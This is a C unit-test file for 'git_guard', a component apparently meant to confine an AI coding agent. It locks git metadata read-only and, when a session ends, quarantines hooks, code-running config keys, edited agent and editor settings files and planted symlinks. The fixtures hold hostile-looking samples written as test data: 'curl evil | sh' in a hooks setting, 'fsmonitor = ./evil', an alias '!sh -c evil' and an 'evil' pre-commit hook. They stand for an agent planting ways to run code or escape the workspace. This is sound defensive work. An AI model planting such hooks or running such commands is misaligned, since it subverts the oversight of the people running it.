// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * The workspace's git metadata made read-only (userspace/supervisor/git_guard.c), on
 * real directories: what the plan protects (a repository's config and
 * hooks, its linked worktrees' pointers, its submodules' git directories
 * however deep their names; never through a symlink; a .git file itself),
 * the mounts in a child's own namespace (writes refused there, renames of
 * the pinned directory too, the parent's view untouched), and the
 * quarantine of a commondir planted during the session; a repository
 * nested at any depth; at the end, a repository made during the session
 * (hooks and code-running config keys held aside, the rest kept), the
 * agent and editor files (the agent's version held aside, the original
 * back), symlinks moved and never followed, the caps failing closed; the
 * walk's cost on 50,000 files.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <sys/wait.h>
#include <unistd.h>

#include "git_guard.h"

struct fixture {
	char ws[64];
	char out[64];                   /* outside the workspace: must be left as it is */
};

static void put(const struct fixture *f, const char *rel, const char *text)
{
	char p[PATH_MAX];
	FILE *fp;

	snprintf(p, sizeof(p), "%s/%s", f->ws, rel);
	fp = fopen(p, "w");
	assert_non_null(fp);
	fputs(text, fp);
	fclose(fp);
}

static void dir(const struct fixture *f, const char *rel)
{
	char p[PATH_MAX];

	snprintf(p, sizeof(p), "%s/%s", f->ws, rel);
	assert_int_equal(mkdir(p, 0755), 0);
}

/* A git directory by hand: HEAD, config, hooks. */
static void gitdir(const struct fixture *f, const char *rel)
{
	char p[256];

	dir(f, rel);
	snprintf(p, sizeof(p), "%s/HEAD", rel);
	put(f, p, "ref: refs/heads/main\n");
	snprintf(p, sizeof(p), "%s/config", rel);
	put(f, p, "[core]\n");
	snprintf(p, sizeof(p), "%s/hooks", rel);
	dir(f, p);
}

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	if (!f)
		return -1;
	strcpy(f->ws, "/tmp/cordon-test-git.XXXXXX");
	if (!mkdtemp(f->ws))
		return -1;
	strcpy(f->out, "/tmp/cordon-test-out.XXXXXX");
	if (!mkdtemp(f->out))
		return -1;
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	char cmd[256];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", f->ws, f->out);
	if (system(cmd) != 0)
		return -1;
	free(f);
	return 0;
}

static bool listed(char *const *v, size_t n, const struct fixture *f, const char *rel)
{
	char p[PATH_MAX];

	snprintf(p, sizeof(p), "%s/%s", f->ws, rel);
	for (size_t i = 0; i < n; i++)
		if (!strcmp(v[i], p))
			return true;
	return false;
}

static void plan_covers_repo_worktrees_and_modules(void **state)
{
	struct fixture *f = *state;
	struct git_guard g;

	gitdir(f, ".git");
	dir(f, ".git/worktrees");
	dir(f, ".git/worktrees/wt1");
	put(f, ".git/worktrees/wt1/commondir", "../..\n");
	put(f, ".git/worktrees/wt1/gitdir", "/elsewhere/wt1/.git\n");
	dir(f, ".git/modules");
	gitdir(f, ".git/modules/a");
	dir(f, ".git/modules/libs");
	gitdir(f, ".git/modules/libs/json");     /* a submodule named libs/json */
	dir(f, ".git/modules/notgit");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_int_equal(g.n_dirs, 3);
	assert_true(listed(g.dirs, g.n_dirs, f, ".git"));
	assert_true(listed(g.dirs, g.n_dirs, f, ".git/modules/a"));
	assert_true(listed(g.dirs, g.n_dirs, f, ".git/modules/libs/json"));
	/* Parents before what they hold. */
	assert_true(strstr(g.dirs[0], "/modules/") == NULL);
	for (size_t i = 0; i < g.n_dirs; i++)
		assert_false(g.had[i] & GIT_GUARD_HAD_COMMONDIR);
	assert_int_equal(g.n_ro, 8);
	assert_true(listed(g.ro, g.n_ro, f, ".git/config"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/hooks"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/worktrees/wt1/commondir"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/worktrees/wt1/gitdir"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/modules/a/config"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/modules/a/hooks"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/modules/libs/json/config"));
	assert_true(listed(g.ro, g.n_ro, f, ".git/modules/libs/json/hooks"));
	git_guard_free(&g);
	assert_int_equal(g.n_dirs, 0);
}

/* A symlinked hooks directory is not followed; a .git file is protected itself; none: nothing. */
static void plan_symlinks_files_and_none(void **state)
{
	struct fixture *f = *state;
	struct git_guard g;
	char p[PATH_MAX];

	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_int_equal(g.n_dirs + g.n_ro, 0);
	git_guard_free(&g);

	put(f, ".git", "gitdir: /elsewhere/.git/worktrees/x\n");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_int_equal(g.n_dirs, 0);
	assert_int_equal(g.n_ro, 1);
	assert_true(listed(g.ro, g.n_ro, f, ".git"));
	git_guard_free(&g);

	snprintf(p, sizeof(p), "%s/.git", f->ws);
	assert_int_equal(unlink(p), 0);
	dir(f, ".git");
	put(f, ".git/HEAD", "ref: refs/heads/main\n");
	put(f, ".git/config", "[core]\n");
	snprintf(p, sizeof(p), "%s/.git/hooks", f->ws);
	assert_int_equal(symlink("/tmp", p), 0);
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_int_equal(g.n_ro, 1);
	assert_true(listed(g.ro, g.n_ro, f, ".git/config"));
	git_guard_free(&g);
}

/*
 * In a child's own mount namespace: config and hooks refuse writes, the
 * pinned .git cannot be renamed, the rest of .git and of the workspace is
 * writable; the parent still writes config.
 */
static void apply_in_a_namespace(void **state)
{
	struct fixture *f = *state;
	char p[PATH_MAX], q[PATH_MAX], why[512] = "";
	struct git_guard g;
	pid_t pid;
	int st;

	if (geteuid() != 0)
		skip();
	gitdir(f, ".git");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		int fd;

		if (git_guard_apply(&g, why, sizeof(why)) < 0) {
			fprintf(stderr, "apply: %s\n", why);
			_exit(10);
		}
		snprintf(p, sizeof(p), "%s/.git/config", f->ws);
		fd = open(p, O_WRONLY | O_APPEND);
		if (fd >= 0 || errno != EROFS)
			_exit(11);
		snprintf(p, sizeof(p), "%s/.git/hooks/pre-commit", f->ws);
		fd = open(p, O_WRONLY | O_CREAT, 0755);
		if (fd >= 0 || errno != EROFS)
			_exit(12);
		snprintf(p, sizeof(p), "%s/.git", f->ws);
		snprintf(q, sizeof(q), "%s/.git-old", f->ws);
		if (rename(p, q) == 0 || errno != EBUSY)
			_exit(13);
		snprintf(p, sizeof(p), "%s/.git/index.lock", f->ws);
		fd = open(p, O_WRONLY | O_CREAT, 0644);
		if (fd < 0)
			_exit(14);
		close(fd);
		snprintf(p, sizeof(p), "%s/file", f->ws);
		fd = open(p, O_WRONLY | O_CREAT, 0644);
		if (fd < 0)
			_exit(15);
		close(fd);
		_exit(0);
	}
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st));
	assert_int_equal(WEXITSTATUS(st), 0);
	snprintf(p, sizeof(p), "%s/.git/config", f->ws);
	st = open(p, O_WRONLY | O_APPEND);
	assert_true(st >= 0);
	close(st);
	git_guard_free(&g);
}

struct seen {
	int n;
	char path[PATH_MAX], moved[PATH_MAX + 64];
};

static void report(void *ctx, const char *path, const char *moved_to)
{
	struct seen *s = ctx;

	s->n++;
	snprintf(s->path, sizeof(s->path), "%s", path);
	snprintf(s->moved, sizeof(s->moved), "%s", moved_to ? moved_to : "");
}

/* A commondir that appeared is moved aside and reported; one there from the start is left. */
static void check_quarantines_a_new_commondir(void **state)
{
	struct fixture *f = *state;
	struct git_guard g;
	struct seen s = { 0 };
	char p[PATH_MAX];
	struct stat sb;

	gitdir(f, ".git");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_int_equal(git_guard_check(&g, report, &s), 0);
	put(f, ".git/commondir", "../../elsewhere\n");
	assert_int_equal(git_guard_check(&g, report, &s), 1);
	assert_int_equal(s.n, 1);
	snprintf(p, sizeof(p), "%s/.git/commondir", f->ws);
	assert_string_equal(s.path, p);
	assert_int_equal(lstat(p, &sb), -1);
	assert_int_equal(lstat(s.moved, &sb), 0);
	git_guard_free(&g);

	/* There before the session (a linked worktree's, say): not the agent's doing. */
	put(f, ".git/commondir", "..\n");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_true(g.had[0] & GIT_GUARD_HAD_COMMONDIR);
	assert_int_equal(git_guard_check(&g, report, &s), 0);
	assert_int_equal(lstat(p, &sb), 0);
	git_guard_free(&g);
}

static char *slurp(const char *path)
{
	static char buf[4096];
	FILE *fp = fopen(path, "r");
	size_t n;

	if (!fp)
		return NULL;
	n = fread(buf, 1, sizeof(buf) - 1, fp);
	buf[n] = 0;
	fclose(fp);
	return buf;
}

static char *at(const struct fixture *f, const char *rel)
{
	static char p[4][PATH_MAX];
	static int i;

	i = (i + 1) % 4;
	snprintf(p[i], sizeof(p[i]), "%s/%s", f->ws, rel);
	return p[i];
}

static bool present(const char *path)
{
	struct stat st;

	return lstat(path, &st) == 0;
}

/* A repository three levels down: pinned, and its config and hooks refuse writes. */
static void nested_repo_at_depth_3_is_read_only(void **state)
{
	struct fixture *f = *state;
	char why[512] = "";
	struct git_guard g;
	pid_t pid;
	int st;

	gitdir(f, ".git");
	dir(f, "a");
	dir(f, "a/b");
	dir(f, "a/b/c");
	gitdir(f, "a/b/c/.git");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	assert_true(listed(g.dirs, g.n_dirs, f, "a/b/c/.git"));
	assert_true(listed(g.ro, g.n_ro, f, "a/b/c/.git/config"));
	assert_true(listed(g.ro, g.n_ro, f, "a/b/c/.git/hooks"));
	if (geteuid() != 0) {
		git_guard_free(&g);
		skip();
	}
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		int fd;

		if (git_guard_apply(&g, why, sizeof(why)) < 0) {
			fprintf(stderr, "apply: %s\n", why);
			_exit(10);
		}
		fd = open(at(f, "a/b/c/.git/config"), O_WRONLY | O_APPEND);
		if (fd >= 0 || errno != EROFS)
			_exit(11);
		fd = open(at(f, "a/b/c/.git/hooks/pre-commit"), O_WRONLY | O_CREAT, 0755);
		if (fd >= 0 || errno != EROFS)
			_exit(12);
		if (rename(at(f, "a/b/c/.git"), at(f, "a/b/c/.git-old")) == 0 || errno != EBUSY)
			_exit(13);
		fd = open(at(f, "a/b/c/file"), O_WRONLY | O_CREAT, 0644);
		if (fd < 0)
			_exit(14);
		close(fd);
		_exit(0);
	}
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st));
	assert_int_equal(WEXITSTATUS(st), 0);
	git_guard_free(&g);
}

struct held_log {
	int n, what[64];
	char path[64][PATH_MAX], moved[64][PATH_MAX + 192];
	bool restored[64];
};

static void log_held(void *ctx, const struct git_guard_held *h)
{
	struct held_log *l = ctx;

	if (l->n < 64) {
		l->what[l->n] = h->what;
		snprintf(l->path[l->n], sizeof(l->path[0]), "%s", h->path);
		snprintf(l->moved[l->n], sizeof(l->moved[0]), "%s", h->moved_to ? h->moved_to : "");
		l->restored[l->n] = h->restored;
	}
	l->n++;
}

static int find_held(const struct held_log *l, const char *path)
{
	for (int i = 0; i < l->n && i < 64; i++)
		if (!strcmp(l->path[i], path))
			return i;
	return -1;
}

/* A repository cloned during the session: its hook and core.fsmonitor held aside, origin kept. */
static void new_repo_hooks_and_config_held_aside(void **state)
{
	struct fixture *f = *state;
	struct held_log *l = calloc(1, sizeof(*l));
	struct git_guard g;
	char *cfg;
	int i;

	gitdir(f, ".git");
	assert_int_equal(git_guard_plan_session(f->ws, "s1", NULL, &g, NULL, 0), 0);
	assert_int_equal(git_guard_end(&g, log_held, l), 0);

	dir(f, "dep");
	gitdir(f, "dep/.git");
	put(f, "dep/.git/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n"
	    "[remote \"origin\"]\n\turl = https://example.com/dep.git\n"
	    "[alias]\n\tst = status\n\tx = \"!sh -c evil\"\n");
	put(f, "dep/.git/hooks/pre-commit", "#!/bin/sh\nevil\n");
	put(f, "dep/.git/hooks/pre-push.sample", "#!/bin/sh\n");
	assert_int_equal(git_guard_end(&g, log_held, l), 2);
	i = find_held(l, at(f, "dep/.git/hooks/pre-commit"));
	assert_true(i >= 0);
	assert_int_equal(l->what[i], GIT_GUARD_HOOK);
	assert_string_equal(l->moved[i], at(f, "dep/.git/cordon-held-s1/hooks/pre-commit"));
	assert_false(present(at(f, "dep/.git/hooks/pre-commit")));
	assert_true(present(at(f, "dep/.git/hooks/pre-push.sample")));
	assert_string_equal(slurp(l->moved[i]), "#!/bin/sh\nevil\n");
	i = find_held(l, at(f, "dep/.git/config"));
	assert_true(i >= 0);
	assert_int_equal(l->what[i], GIT_GUARD_CONFIG);
	cfg = slurp(at(f, "dep/.git/config"));
	assert_non_null(cfg);
	assert_null(strstr(cfg, "fsmonitor"));
	assert_null(strstr(cfg, "evil"));
	assert_non_null(strstr(cfg, "[remote \"origin\"]\n\turl = https://example.com/dep.git\n"));
	/* Every alias: one without '!' can still pass -c core.fsmonitor=... */
	assert_null(strstr(cfg, "st = status"));
	assert_non_null(strstr(cfg, "repositoryformatversion = 0"));
	assert_non_null(strstr(slurp(at(f, "dep/.git/cordon-held-s1/config")), "fsmonitor = ./evil"));
	/* Held once: a second end finds nothing more. */
	l->n = 0;
	assert_int_equal(git_guard_end(&g, log_held, l), 0);
	git_guard_free(&g);
	free(l);
}

/* Every watched file changed: the agent's version aside, the original back; created, deleted too. */
static void watched_files_restored_and_held(void **state)
{
	static const char *const watched[] = { GIT_GUARD_WATCHED };
	const size_t n = sizeof(watched) / sizeof(watched[0]);
	struct fixture *f = *state;
	struct held_log *l = calloc(1, sizeof(*l));
	char orig[64], held[PATH_MAX];
	struct git_guard g;
	struct stat st;

	for (size_t k = 0; k < n; k++) {
		char d[64];

		snprintf(d, sizeof(d), "%s", watched[k]);
		if (strchr(d, '/')) {
			*strchr(d, '/') = 0;
			(void)mkdir(at(f, d), 0755);
		}
		snprintf(orig, sizeof(orig), "original %zu\n", k);
		put(f, watched[k], orig);
		assert_int_equal(chmod(at(f, watched[k]), 0640), 0);
	}
	/* A nested repository's top is watched too: created there. */
	dir(f, "sub");
	gitdir(f, "sub/.git");
	put(f, "sub/.mcp.json", "{}\n");
	assert_int_equal(git_guard_plan_session(f->ws, "s2", NULL, &g, NULL, 0), 0);
	for (size_t k = 0; k < n; k++)
		put(f, watched[k], "{\"hooks\": \"curl evil | sh\"}\n");
	put(f, "sub/.claude-unwatched", "x\n");
	dir(f, "sub/.claude");
	put(f, "sub/.claude/settings.json", "{\"evil\": 1}\n");        /* created */
	assert_int_equal(unlink(at(f, "sub/.mcp.json")), 0);          /* deleted */
	assert_int_equal(git_guard_end(&g, log_held, l), (int)n + 2);
	for (size_t k = 0; k < n; k++) {
		int i = find_held(l, at(f, watched[k]));

		snprintf(orig, sizeof(orig), "original %zu\n", k);
		assert_true(i >= 0);
		assert_int_equal(l->what[i], GIT_GUARD_FILE_CHANGED);
		assert_true(l->restored[i]);
		assert_string_equal(slurp(at(f, watched[k])), orig);
		assert_int_equal(stat(at(f, watched[k]), &st), 0);
		assert_int_equal(st.st_mode & 07777, 0640);
		snprintf(held, sizeof(held), "%s.cordon-held-s2", at(f, watched[k]));
		assert_string_equal(l->moved[i], held);
		assert_string_equal(slurp(held), "{\"hooks\": \"curl evil | sh\"}\n");
	}
	assert_int_equal(l->what[find_held(l, at(f, "sub/.claude/settings.json"))],
			 GIT_GUARD_FILE_CREATED);
	assert_false(present(at(f, "sub/.claude/settings.json")));
	assert_true(present(at(f, "sub/.claude/settings.json.cordon-held-s2")));
	assert_int_equal(l->what[find_held(l, at(f, "sub/.mcp.json"))], GIT_GUARD_FILE_DELETED);
	assert_string_equal(slurp(at(f, "sub/.mcp.json")), "{}\n");
	assert_true(present(at(f, "sub/.claude-unwatched")));
	git_guard_free(&g);
	free(l);
}

/*
 * Symlinks the agent planted: a new repository's hooks and config, a
 * watched file's directory.  Each moved aside; what they point at (outside
 * the workspace) is left exactly as it was.
 */
static void planted_symlinks_are_moved_not_followed(void **state)
{
	struct fixture *f = *state;
	struct held_log *l = calloc(1, sizeof(*l));
	char p[PATH_MAX], q[PATH_MAX];
	struct git_guard g;
	struct stat st;
	int i;

	snprintf(p, sizeof(p), "%s/hooks", f->out);
	assert_int_equal(mkdir(p, 0755), 0);
	snprintf(p, sizeof(p), "%s/hooks/post-checkout", f->out);
	put(&(struct fixture){ .ws = "/" }, p + 1, "#!/bin/sh\nouter\n");
	snprintf(p, sizeof(p), "%s/config", f->out);
	put(&(struct fixture){ .ws = "/" }, p + 1, "[core]\n\tfsmonitor = outer\n");
	snprintf(p, sizeof(p), "%s/tasks.json", f->out);
	put(&(struct fixture){ .ws = "/" }, p + 1, "outer\n");
	dir(f, ".vscode");
	put(f, ".vscode/tasks.json", "mine\n");
	assert_int_equal(git_guard_plan_session(f->ws, "s3", NULL, &g, NULL, 0), 0);

	dir(f, "r");
	dir(f, "r/.git");
	put(f, "r/.git/HEAD", "ref: refs/heads/main\n");
	snprintf(p, sizeof(p), "%s/hooks", f->out);
	assert_int_equal(symlink(p, at(f, "r/.git/hooks")), 0);
	snprintf(p, sizeof(p), "%s/config", f->out);
	assert_int_equal(symlink(p, at(f, "r/.git/config")), 0);
	assert_int_equal(unlink(at(f, ".vscode/tasks.json")), 0);
	assert_int_equal(rmdir(at(f, ".vscode")), 0);
	assert_int_equal(symlink(f->out, at(f, ".vscode")), 0);
	/* The held directory's name, taken by a symlink to the outside: removed, not followed. */
	assert_int_equal(symlink(f->out, at(f, "r/.git/cordon-held-s3")), 0);

	assert_int_equal(git_guard_end(&g, log_held, l), 3);
	i = find_held(l, at(f, "r/.git/hooks"));
	assert_true(i >= 0);
	assert_string_equal(l->moved[i], at(f, "r/.git/cordon-held-s3/hooks"));
	assert_int_equal(lstat(l->moved[i], &st), 0);
	assert_true(S_ISLNK(st.st_mode));
	i = find_held(l, at(f, "r/.git/config"));
	assert_true(i >= 0);
	assert_int_equal(lstat(l->moved[i], &st), 0);
	assert_true(S_ISLNK(st.st_mode));
	i = find_held(l, at(f, ".vscode"));
	assert_true(i >= 0);
	assert_true(l->restored[i]);
	assert_int_equal(lstat(at(f, ".vscode"), &st), 0);
	assert_true(S_ISDIR(st.st_mode));
	assert_string_equal(slurp(at(f, ".vscode/tasks.json")), "mine\n");
	assert_int_equal(lstat(at(f, ".vscode.cordon-held-s3"), &st), 0);
	assert_true(S_ISLNK(st.st_mode));
	/* Outside: all there, unchanged, nothing added. */
	snprintf(p, sizeof(p), "%s/hooks/post-checkout", f->out);
	assert_string_equal(slurp(p), "#!/bin/sh\nouter\n");
	snprintf(p, sizeof(p), "%s/config", f->out);
	assert_string_equal(slurp(p), "[core]\n\tfsmonitor = outer\n");
	snprintf(p, sizeof(p), "%s/tasks.json", f->out);
	assert_string_equal(slurp(p), "outer\n");
	snprintf(q, sizeof(q), "ls -A '%s' | wc -l | grep -qx 3", f->out);
	assert_int_equal(system(q), 0);
	git_guard_free(&g);
	free(l);
}

/* Over a cap: the plan fails (-E2BIG), WHY names the cap; nothing half planned is left. */
static void caps_fail_closed(void **state)
{
	struct fixture *f = *state;
	char why[512] = "", p[256];
	struct git_guard g;

	for (int i = 0; i <= GIT_GUARD_MAX_REPOS; i++) {
		snprintf(p, sizeof(p), "r%d", i);
		dir(f, p);
		snprintf(p, sizeof(p), "r%d/.git", i);
		put(f, p, "gitdir: ../x\n");
	}
	assert_int_equal(git_guard_plan_session(f->ws, "c", NULL, &g, why, sizeof(why)), -E2BIG);
	assert_non_null(strstr(why, "GIT_GUARD_MAX_REPOS"));
	assert_int_equal(g.n_ro + g.n_dirs + g.n_watch, 0);

	/* Entries: one directory with GIT_GUARD_MAX_ENTRIES more names (symlinks: cheap). */
	dir(f, "many");
	put(f, "many/0", "");
	for (int i = 1; i <= GIT_GUARD_MAX_ENTRIES; i++) {
		snprintf(p, sizeof(p), "%s/many/%d", f->ws, i);
		assert_int_equal(symlink("0", p), 0);
	}
	why[0] = 0;
	assert_int_equal(git_guard_plan_session(f->ws, "c", NULL, &g, why, sizeof(why)), -E2BIG);
	assert_non_null(strstr(why, "GIT_GUARD_MAX_ENTRIES"));
}

/*
 * What a config points at (git_guard_point.c): an include and a hooks
 * directory of the working tree made read-only, the ones not there yet
 * listed for the end, one outside the workspace ignored; and includes that
 * fan out (a file including itself twenty times, to git's depth of ten)
 * refused with the cap named, not read 20^10 times.
 */
static void config_pointers_and_their_cap(void **state)
{
	struct fixture *f = *state;
	char why[512] = "", p[PATH_MAX], loop[4096] = "";
	struct git_guard g;
	bool inc = false, hooks = false, absent = false;

	gitdir(f, ".git");
	put(f, ".git/config", "[core]\n\thooksPath = \"tools/hooks\"\n"
	    "[include]\n\tpath = ../shared.inc\n\tpath = ../not-yet.inc\n\tpath = /etc/x.inc\n");
	dir(f, "tools");
	dir(f, "tools/hooks");
	put(f, "shared.inc", "[user]\n\tname = n\n");
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	for (size_t i = 0; i < g.n_ro; i++) {
		snprintf(p, sizeof(p), "%s/shared.inc", f->ws);
		inc |= !strcmp(g.ro[i], p);
		snprintf(p, sizeof(p), "%s/tools/hooks", f->ws);
		hooks |= !strcmp(g.ro[i], p);
		assert_null(strstr(g.ro[i], "/etc/"));
	}
	for (size_t i = 0; i < g.n_pointed; i++)
		absent |= !strcmp(g.pointed[i], "not-yet.inc");
	assert_true(inc);
	assert_true(hooks);
	assert_true(absent);
	git_guard_free(&g);

	/* "~/" is the user's home, which may hold the workspace. */
	put(f, ".git/config", "[include]\n\tpath = ~/home.inc\n");
	assert_int_equal(git_guard_plan_session(f->ws, "h", f->ws, &g, why, sizeof(why)), 0);
	absent = false;
	for (size_t i = 0; i < g.n_pointed; i++)
		absent |= !strcmp(g.pointed[i], "home.inc");
	assert_true(absent);
	git_guard_free(&g);

	for (int i = 0; i < 20; i++)
		strcat(loop, "[include]\n\tpath = loop.inc\n");
	put(f, "loop.inc", loop);
	put(f, ".git/config", "[include]\n\tpath = ../loop.inc\n");
	assert_int_equal(git_guard_plan_session(f->ws, "c", NULL, &g, why, sizeof(why)), -ELOOP);
	assert_non_null(strstr(why, "GIT_GUARD_MAX_CONFIGS"));
}

/*
 * A watched file over GIT_GUARD_HASH_MAX is not read (an agent's sparse
 * 20 GB .envrc held the end for a minute): it counts as changed, and is
 * held aside, even when it is as it was at the start.
 */
static void a_huge_watched_file_is_not_read(void **state)
{
	struct fixture *f = *state;
	struct held_log *l = calloc(1, sizeof(*l));
	struct git_guard g;
	int fd, i;

	fd = open(at(f, ".envrc"), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_int_equal(ftruncate(fd, (off_t)GIT_GUARD_HASH_MAX + 1), 0);
	close(fd);
	assert_int_equal(git_guard_plan_session(f->ws, "s4", NULL, &g, NULL, 0), 0);
	assert_int_equal(git_guard_end(&g, log_held, l), 1);
	i = find_held(l, at(f, ".envrc"));
	assert_true(i >= 0);
	assert_int_equal(l->what[i], GIT_GUARD_FILE_CHANGED);
	assert_true(l->moved[i][0]);
	git_guard_free(&g);
	free(l);
}

/* The cost: 50,000 files in 500 directories, with 10 repositories. */
static void plan_cost_on_50000_files(void **state)
{
	struct fixture *f = *state;
	struct timespec a, b, c;
	struct git_guard g;
	char p[256];
	double plan_ms, end_ms;

	gitdir(f, ".git");
	for (int d = 0; d < 500; d++) {
		snprintf(p, sizeof(p), "d%d", d);
		dir(f, p);
		if (d % 50 == 0) {
			snprintf(p, sizeof(p), "d%d/.git", d);
			gitdir(f, p);
		}
		for (int i = 0; i < 100; i++) {
			int fd;

			snprintf(p, sizeof(p), "%s/d%d/f%d", f->ws, d, i);
			fd = open(p, O_WRONLY | O_CREAT, 0644);
			assert_true(fd >= 0);
			close(fd);
		}
	}
	clock_gettime(CLOCK_MONOTONIC, &a);
	assert_int_equal(git_guard_plan(f->ws, &g), 0);
	clock_gettime(CLOCK_MONOTONIC, &b);
	assert_int_equal(git_guard_end(&g, log_held, &(struct held_log){ 0 }), 0);
	clock_gettime(CLOCK_MONOTONIC, &c);
	plan_ms = (b.tv_sec - a.tv_sec) * 1e3 + (b.tv_nsec - a.tv_nsec) / 1e6;
	end_ms = (c.tv_sec - b.tv_sec) * 1e3 + (c.tv_nsec - b.tv_nsec) / 1e6;
	assert_int_equal(g.n_dirs, 11);
	assert_true(g.walked >= 50000);
	fprintf(stderr, "# plan on %zu entries, 11 repositories: %.1f ms (warm cache); end: %.1f ms\n",
		g.walked, plan_ms, end_ms);
	git_guard_free(&g);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(plan_covers_repo_worktrees_and_modules, setup, teardown),
		cmocka_unit_test_setup_teardown(plan_symlinks_files_and_none, setup, teardown),
		cmocka_unit_test_setup_teardown(apply_in_a_namespace, setup, teardown),
		cmocka_unit_test_setup_teardown(check_quarantines_a_new_commondir, setup, teardown),
		cmocka_unit_test_setup_teardown(nested_repo_at_depth_3_is_read_only, setup, teardown),
		cmocka_unit_test_setup_teardown(new_repo_hooks_and_config_held_aside, setup, teardown),
		cmocka_unit_test_setup_teardown(watched_files_restored_and_held, setup, teardown),
		cmocka_unit_test_setup_teardown(planted_symlinks_are_moved_not_followed, setup, teardown),
		cmocka_unit_test_setup_teardown(caps_fail_closed, setup, teardown),
		cmocka_unit_test_setup_teardown(config_pointers_and_their_cap, setup, teardown),
		cmocka_unit_test_setup_teardown(a_huge_watched_file_is_not_read, setup, teardown),
		cmocka_unit_test_setup_teardown(plan_cost_on_50000_files, setup, teardown),
	};

	return cmocka_run_group_tests_name("git_guard", tests, NULL, NULL);
}
